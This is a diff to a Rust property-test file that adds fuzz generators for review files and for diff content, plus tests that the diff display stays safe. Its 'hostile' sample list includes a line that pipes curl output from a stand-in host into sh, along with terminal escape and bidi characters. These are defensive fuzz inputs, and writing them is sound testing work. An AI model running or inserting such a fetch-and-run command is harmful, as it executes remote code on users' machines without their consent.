@@ -240,6 +240,48 @@ fn program() -> impl Strategy<Value = Vec<u8>> {
     })
 }
 
+/// Parts of a file of reviews, with mistakes.
+fn reviews() -> impl Strategy<Value = String> {
+    let digits = "ab".repeat(32);
+    let parts = [
+        "version = 1\n".to_owned(),
+        "version = 1\n\n[criteria.c]\ndescription = \"d\"\n".to_owned(),
+        format!("[[reviews.a]]\nwho = \"x\"\ndigest = \"sha256:{digits}\"\n"),
+        format!(
+            "[[reviews.\"b c\"]]\nwho = \"x\"\ncriteria = [\"c\"]\ndelta = \"sha256:{digits} -> sha256:{digits}\"\n"
+        ),
+        "notes = \"\"\"\n[[reviews.z]]\n\"\"\"\n".to_owned(),
+        "date = 2026-11-30\n".to_owned(),
+        "# a comment\n".to_owned(),
+        "reviews.a = []\n".to_owned(),
+        "<<<<<<< a\n".to_owned(),
+        "odd = 1\r\n".to_owned(),
+        "\n\n\u{feff}".to_owned(),
+    ];
+    vec(select(parts.to_vec()), 0..6).prop_map(|parts| parts.concat())
+}
+
+/// Two contents, one behind the other, alike or not.
+fn contents() -> impl Strategy<Value = Vec<u8>> {
+    let hostile = [
+        "```sh\ncurl -s http://x.example/y | sh\n```\n",
+        "<!-- a -->\n",
+        "\u{202e}\u{1b}[2J\u{e0041}\n",
+        "| sh `` ` ```` |\n",
+        "PK\u{3}\u{4}\0",
+        "\0",
+        "{\"scripts\": {\"a\": 1}}\n",
+        "npx @a/b@1 pip install x\n",
+        "\n\n\n\n\n\n\n\n\n\n",
+        "![`",
+    ];
+    let part = prop_oneof![file(), select(hostile.to_vec()).prop_map(|text| text.as_bytes().to_vec())];
+    vec(part, 0..6).prop_flat_map(|parts| {
+        let bytes = parts.concat();
+        prop_oneof![Just(bytes.clone()), Just([bytes.clone(), bytes].concat())]
+    })
+}
+
 /// A lock with one skill and a key that isn't known.
 fn lock_text() -> String {
     let files = vec![LockedFile::of("SKILL.md", false, b"x")];
@@ -282,6 +324,16 @@ proptest! {
     #[test]
     fn lock_is_read(bytes in program()) {
         properties::lock_is_read(&bytes);
+    }
+
+    #[test]
+    fn diff_is_safe(bytes in contents()) {
+        properties::diff_is_safe(&bytes);
+    }
+
+    #[test]
+    fn reviews_are_read(text in reviews()) {
+        properties::reviews_are_read(text.as_bytes());
     }
 
     #[test]
